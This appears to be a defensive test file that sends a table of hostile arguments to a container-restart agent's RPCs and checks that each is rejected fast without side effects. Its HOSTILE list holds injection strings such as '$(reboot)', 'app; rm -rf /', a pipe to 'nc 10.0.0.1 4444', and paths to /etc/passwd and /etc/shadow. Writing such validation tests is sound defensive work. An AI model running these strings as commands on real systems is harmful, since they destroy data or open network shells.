// A table of hostile arguments for every RPC of proto/inplace/v1/agent.proto, sent to the real agent on the
// sandbox's containerd. Each must be refused with INVALID_ARGUMENT or NOT_FOUND and a short message within a
// second; the agent must stay up, and no container of a real pod may change.
import assert from 'node:assert/strict';
import { AgentClient } from '../../src/api/client.js';
import { AgentError } from '../../src/errors.js';
import type { RestartRequest } from '../../src/gen/inplace/v1/RestartRequest.js';
import type { PullImagesRequest } from '../../src/gen/inplace/v1/PullImagesRequest.js';
import { CriRuntime } from '../../src/runtime/cri/cri-runtime.js';
import { CriPodFixture } from '../testbed/cri-pods.js';
import type { TestPod } from '../testbed/pod-fixture.js';
import { sandboxEnv } from '../testbed/sandbox-env.js';
import { startAgent, type AgentProcess } from '../support/agent-process.js';
import { requireRuntime } from '../support/require-runtime.js';

const env = sandboxEnv();

/** Strings no identifier, image reference or operation id may be. */
const HOSTILE: [string, string][] = [
  ['empty', ''],
  ['blank', '   '],
  ['1 MiB', 'a'.repeat(1024 * 1024)],
  ['1 MiB of NULs', '\0'.repeat(1024 * 1024)],
  ['400 letters', 'b'.repeat(400)],
  ['NUL inside', 'app\0x'],
  ['newline (log forging)', 'app\nlevel=error msg=forged'],
  ['escape sequence', '\u001b[31mred'],
  ['unicode', 'ünïcødé-容器'],
  ['emoji', '😀😀😀'],
  ['right-to-left override', 'app\u202egnp.exe'],
  ['path traversal', '../../../etc/passwd'],
  ['absolute path', '/etc/shadow'],
  ['windows path', 'C:\\Windows\\system32'],
  ['shell substitution', '$(reboot)'],
  ['backticks', '`id`'],
  ['shell chain', 'app; rm -rf /'],
  ['pipe', 'app | nc 10.0.0.1 4444'],
  ['glob', '*'],
  ['format string', '%s%s%n%x'],
  ['quote injection', '" OR 1=1 --'],
  ['json', '{"id":"x"}'],
  ['url', 'http://127.0.0.1:1/x'],
  ['trailing space', 'app '],
];

/** Image references that are malformed in ways a parser can get wrong. */
const BAD_IMAGES: [string, string][] = [
  ['short sha256', '127.0.0.1:5000/inplace/app@sha256:abc'],
  ['uppercase sha256', `127.0.0.1:5000/inplace/app@sha256:${'A'.repeat(64)}`],
  ['65 hex digits', `127.0.0.1:5000/inplace/app@sha256:${'a'.repeat(65)}`],
  ['unknown algorithm, short', '127.0.0.1:5000/inplace/app@md5:abc'],
  ['digest only', `@sha256:${'a'.repeat(64)}`],
  ['empty digest', '127.0.0.1:5000/inplace/app@'],
  ['empty tag', '127.0.0.1:5000/inplace/app:'],
  ['tag of 129', `127.0.0.1:5000/inplace/app:${'t'.repeat(129)}`],
  ['name of 256', `127.0.0.1:5000/${'n'.repeat(240)}/x:1`],
  ['uppercase path', '127.0.0.1:5000/Inplace/App:v1'],
  ['double slash', '127.0.0.1:5000//app:v1'],
  ['bad port', '127.0.0.1:99999999999/app:v1'],
  ['spaces', 'inplace app:v1'],
];

/** Durations past every bound (uint64 on the wire; "-1" encodes as 2^64-1). */
const BAD_DURATIONS: [string, string][] = [
  ['2^64-1', '18446744073709551615'],
  ['2^63', '9223372036854775808'],
  ['-1', '-1'],
  ['2^31 ms', '2147483648'],
  ['10^15 ms', '1000000000000000'],
];

interface Case {
  name: string;
  call: (c: AgentClient) => Promise<unknown>;
  /** Allowed kinds (default InvalidArgument or NotFound). */
  kinds?: string[];
}

async function drain<T>(it: AsyncGenerator<T>): Promise<void> {
  for await (const _ of it) void _;
}

describe('hostile input: every RPC refuses bad arguments quickly, with a short message, and changes nothing', function () {
  this.timeout(300_000);
  let rt: CriRuntime;
  let fixture: CriPodFixture;
  let agent: AgentProcess;
  let pod: TestPod;
  let client: AgentClient;

  before(async function () {
    rt = new CriRuntime(env.criEndpoint);
    await requireRuntime(this, 'containerd (CRI)', () => rt.version());
    fixture = new CriPodFixture(env.criEndpoint);
    pod = await fixture.create({ name: 'hostile', namespace: 'hostile', containers: [{ name: 'app', image: env.images.appV1 }, { name: 'side', image: env.images.appV1 }] });
    agent = await startAgent(['--runtime', 'cri', '--cri-endpoint', env.criEndpoint]);
    client = new AgentClient(`unix://${agent.socket}`, 10_000);
  });

  after(async () => {
    client?.close();
    await agent?.stop();
    if (pod) await fixture?.remove(pod).catch(() => undefined);
    fixture?.close();
    rt?.close();
  });

  function cases(): Case[] {
    const out: Case[] = [];
    const base: RestartRequest = { pod: pod.name, containers: ['app'], images: {}, graceSeconds: 5, graceSet: true, minReadyMs: '200', minReadySet: true, timeoutMs: '60000' };
    const restart = (over: Partial<RestartRequest>) => (c: AgentClient) => c.restart({ ...base, ...over });
    const pull = (req: PullImagesRequest) => (c: AgentClient) => drain(c.pullImages(req));
    const ok = env.images.busybox;
    for (const [what, s] of HOSTILE) {
      out.push({ name: `Restart pod: ${what}`, call: restart({ pod: s }) });
      out.push({ name: `Restart container: ${what}`, call: restart({ containers: [s] }) });
      out.push({ name: `Restart second container: ${what}`, call: restart({ containers: ['app', s] }) });
      out.push({ name: `Restart image value: ${what}`, call: restart({ images: { app: s } }) });
      out.push({ name: `Restart image key: ${what}`, call: restart({ images: { [s]: ok } }) });
      out.push({ name: `PullImages image: ${what}`, call: pull({ images: [s] }) });
      out.push({ name: `PullImages second image: ${what}`, call: pull({ images: [ok, s] }) });
      out.push({ name: `GetOperation id: ${what}`, call: (c) => c.getOperation(s) });
      out.push({ name: `WatchOperation id: ${what}`, call: (c) => drain(c.watchOperation(s)) });
      out.push({ name: `CancelOperation id: ${what}`, call: (c) => c.cancelOperation(s) });
      // An empty filter means "all pods": it is the one string here a caller may send.
      if (s !== '') out.push({ name: `ListOperations pod filter: ${what}`, call: (c) => c.listOperations(s) });
    }
    for (const [what, ref] of BAD_IMAGES) {
      out.push({ name: `Restart image: ${what}`, call: restart({ images: { app: ref } }) });
      out.push({ name: `PullImages: ${what}`, call: pull({ images: [ref] }) });
    }
    for (const [what, d] of BAD_DURATIONS) {
      out.push({ name: `Restart min_ready_ms ${what}`, call: restart({ minReadyMs: d }) });
      out.push({ name: `Restart timeout_ms ${what}`, call: restart({ timeoutMs: d }) });
      out.push({ name: `Restart min_ready_ms and timeout_ms ${what}`, call: restart({ minReadyMs: d, timeoutMs: d }) });
      out.push({ name: `PullImages timeout_ms ${what}`, call: pull({ images: [ok], timeoutMs: d }) });
    }
    const many = (n: number, f: (i: number) => string) => Array.from({ length: n }, (_, i) => f(i));
    out.push(
      { name: 'Restart grace_seconds 2^32-1', call: restart({ graceSeconds: 4294967295 }) },
      { name: 'Restart grace_seconds -1 (wraps to 2^32-1)', call: restart({ graceSeconds: -1 }) },
      { name: 'Restart no containers', call: restart({ containers: [] }) },
      { name: 'Restart 5,000 containers', call: restart({ containers: many(5000, (i) => `c${i}`) }) },
      { name: 'Restart 33 containers', call: restart({ containers: many(33, (i) => `c${i}`) }) },
      { name: 'Restart the same container twice', call: restart({ containers: ['app', 'app'] }) },
      { name: 'Restart the same container 2,000 times', call: restart({ containers: many(2000, () => 'app') }) },
      { name: 'Restart 5,000 images for one container', call: restart({ images: Object.fromEntries(Array.from({ length: 5000 }, (_, i): [string, string] => [`c${i}`, ok])) }) },
      { name: 'Restart an image for a container not restarted', call: restart({ images: { side: ok } }) },
      { name: 'Restart a container not in the pod', call: restart({ containers: ['no-such-container'] }) },
      { name: 'Restart a pod not on the node', call: restart({ pod: 'hostile/no-such-pod' }) },
      { name: 'Restart a sandbox id prefix that matches nothing', call: restart({ pod: 'ffffff0000' }) },
      { name: 'PullImages no images', call: pull({ images: [] }) },
      { name: 'PullImages 5,000 images', call: pull({ images: many(5000, (i) => `127.0.0.1:5000/inplace/x${i}:1`) }) },
      { name: 'PullImages 101 images', call: pull({ images: many(101, (i) => `127.0.0.1:5000/inplace/x${i}:1`) }) },
      { name: 'PullImages the same image twice', call: pull({ images: [ok, ok] }) },
      { name: 'PullImages the same image twice, spelled differently', call: pull({ images: ['busybox', 'docker.io/library/busybox:latest'] }) },
      { name: 'PullImages 2,000 duplicates', call: pull({ images: many(2000, () => ok) }) },
      { name: 'PullImages parallel 2^32-1', call: pull({ images: [ok], parallel: 4294967295 }) },
      { name: 'PullImages auth_config_json of 1 MiB', call: pull({ images: [ok], authConfigJson: `{"auths":{"x":{"auth":"${'a'.repeat(1024 * 1024)}"}}}` }) },
      { name: 'PullImages auth_config_json not JSON', call: pull({ images: [ok], authConfigJson: '{not json' }) },
      { name: 'PullImages auth_config_json null', call: pull({ images: [ok], authConfigJson: 'null' }) },
      { name: 'PullImages auth_config_json with a bad entry', call: pull({ images: [ok], authConfigJson: '{"auths":{"r":{"auth":"bm9jb2xvbg=="}}}' }) },
      { name: 'GetOperation unknown id', call: (c) => c.getOperation('00000000-0000-4000-8000-000000000000') },
      { name: 'GetOperation id of 37', call: (c) => c.getOperation('0'.repeat(37)) },
      { name: 'WatchOperation unknown id', call: (c) => drain(c.watchOperation('00000000-0000-4000-8000-000000000000')) },
      { name: 'CancelOperation unknown id', call: (c) => c.cancelOperation('00000000-0000-4000-8000-000000000000') },
      { name: 'CancelOperation unknown prefix', call: (c) => c.cancelOperation('abcdef') },
      { name: 'ListOperations pod filter of 318', call: (c) => c.listOperations('p'.repeat(318)) },
    );
    return out;
  }

  it('refuses each case with INVALID_ARGUMENT or NOT_FOUND, a short message, within a second', async () => {
    const snapshot = async () => (await rt.listContainers({ podId: pod.podId })).map((c) => `${c.name}:${c.id}:${c.state}`).sort();
    const before = await snapshot();
    const opsBefore = (await client.listOperations()).length;
    const table = cases();
    const wrong: string[] = [];
    let slowest = 0;
    for (const k of table) {
      const started = Date.now();
      let err: unknown;
      try {
        await k.call(client);
      } catch (e) {
        err = e;
      }
      const ms = Date.now() - started;
      slowest = Math.max(slowest, ms);
      const kinds = k.kinds ?? ['InvalidArgument', 'NotFound'];
      if (!(err instanceof AgentError)) wrong.push(`${k.name}: accepted (no error)`);
      else if (!kinds.includes(err.kind)) wrong.push(`${k.name}: ${err.kind}: ${err.message.slice(0, 200)}`);
      else if (err.message.length > 400) wrong.push(`${k.name}: message of ${err.message.length} characters`);
      else if (['\0', '\n', '\u001b', '\u202e'].some((ch) => err.message.includes(ch))) wrong.push(`${k.name}: message carries control characters: ${JSON.stringify(err.message.slice(0, 120))}`);
      if (ms > 1000) wrong.push(`${k.name}: took ${ms} ms`);
    }
    console.log(`      hostile-input cases: ${table.length} (slowest answer ${slowest} ms)`);
    assert.ok(table.length >= 200, `only ${table.length} cases`);
    assert.deepEqual(wrong, []);
    assert.equal(agent.child.exitCode, null, 'the agent is still running');
    assert.equal((await client.listOperations()).length, opsBefore, 'no operation was recorded');
    assert.deepEqual(await snapshot(), before, 'no container of the pod changed');
  });
});
